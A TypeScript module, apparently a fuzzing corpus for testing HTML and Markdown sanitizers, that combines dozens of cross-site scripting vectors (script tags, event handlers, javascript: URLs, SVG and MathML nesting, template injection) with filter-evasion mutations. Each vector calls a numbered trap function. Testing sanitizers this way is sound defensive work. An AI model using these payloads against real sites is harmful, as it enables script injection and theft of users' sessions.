// Texts that would run a script wherever something takes a person's text for markup, an address or code.

/** What each of them calls; the number says which one it was. */
export const trap = "scriptRan";

type Shape = (call: string) => string;

/** Ways into HTML, SVG, MathML, CSS, templates and Markdown. */
const shapes: readonly Shape[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<script src="data:text/javascript,${call}"></script>`,
  (call) => `<script type=module>${call}</script>`,
  (call) => `</script><script>${call}</script>`,
  (call) => `</title><script>${call}</script>`,
  (call) => `</textarea><img src=x onerror=${call}>`,
  (call) => `</style><img src=x onerror=${call}>`,
  (call) => `--><img src=x onerror=${call}>`,
  (call) => `<!--><img src=x onerror=${call}>-->`,
  (call) => `<![CDATA[><img src=x onerror=${call}>]]>`,
  (call) => `<img src=x onerror="${call}">`,
  (call) => `<img src='x' onerror='${call}' alt=`,
  (call) => `<img/src=x/onerror=${call}>`,
  (call) => `<img src=x:x onload=${call} onerror=${call}>`,
  (call) => `<image href=x onerror=${call}>`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => `<select autofocus onfocus=${call}><option>a</select>`,
  (call) => `<body onload=${call}>`,
  (call) => `<details open ontoggle=${call}><summary>a</summary></details>`,
  (call) => `<video><source onerror=${call}></video>`,
  (call) => `<audio src=x onerror=${call}></audio>`,
  (call) => `<marquee onstart=${call}>a</marquee>`,
  (call) => `<p style="animation: a 1s" onanimationstart=${call}>a</p>`,
  (call) => `<a href="javascript:${call}">a</a>`,
  (call) => `<a href="&#106;avascript:${call}">a</a>`,
  (call) => `<form action="javascript:${call}"><button>a</button></form>`,
  (call) => `<button formaction="javascript:${call}" autofocus>a</button>`,
  (call) => `<iframe src="javascript:parent.${call}"></iframe>`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  (call) => `<object data="data:text/html,<script>parent.${call}</script>"></object>`,
  (call) => `<embed src="javascript:${call}">`,
  (call) => `<base href="javascript:${call}//">`,
  (call) => `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  (call) => `<link rel=stylesheet href=x onerror=${call}>`,
  (call) => `<svg onload=${call}>`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  (call) => `<svg><a xlink:href="javascript:${call}"><text y=20>a</text></a></svg>`,
  (call) => `<svg><use href="data:image/svg+xml,<svg id=a onload=${call}>#a"></use></svg>`,
  (call) => `<svg></p><style><a id="</style><img src=x onerror=${call}>">`,
  (call) => `<math><mtext><table><mglyph><style><img src=x onerror=${call}>`,
  (call) => `<math href="javascript:${call}">a</math>`,
  (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  (call) => `<template><img src=x onerror=${call}></template>`,
  (call) => `<div style="background:url(javascript:${call})">a</div>`,
  (call) => `[a](javascript:${call})`,
  (call) => `[a](<javascript:${call}> "a")`,
  (call) => `![a](javascript:${call})`,
  (call) => `![a" onerror="${call}](x "a' onerror='${call}")`,
  (call) => `<javascript:${call}>`,
  (call) => `[a](vbscript:${call}) [b](data:text/html,<script>parent.${call}</script>)`,
  (call) => `[a]: javascript:${call} "a" [a] [a][a]`,
  (call) => `https://example.test/"onmouseover="${call}"`,
  (call) => `{{constructor.constructor('${call}')()}} \${${call}} #{${call}} <%= ${call} %>`,
];

/** What is done to each of them so that a filter misses it. */
const mutations: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replaceAll(/[a-z]/g, (letter, at) => (at % 2 ? letter.toUpperCase() : letter)),
  (text) => `"'><x ${text}`,
  (text) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (text) => text.replaceAll("<", "&#x3c;").replaceAll(":", "&colon;"),
  (text) => encodeURIComponent(text),
  (text) => text.replaceAll("javascript", "java\u200Bscript").replaceAll("<", "<\u00AD"),
  (text) => text.replaceAll("=", " = ").replaceAll("/", "//"),
  (text) => `**${text}** \`${text}\``,
  (text) => `> - ${text}`,
];

/** Calls are case-sensitive: a changed one would miss the trap. */
const call = (number: number) => `${trap}(${number})`;
const mark = "\u0000";

/** Every shape in every mutation, each with a number of its own, on one line. */
export const scripts: readonly string[] = shapes
  .flatMap((shape) => mutations.map((mutate) => mutate(shape(mark))))
  .map((text, number) =>
    text.replaceAll(mark, call(number)).replaceAll(encodeURIComponent(mark), call(number)),
  );
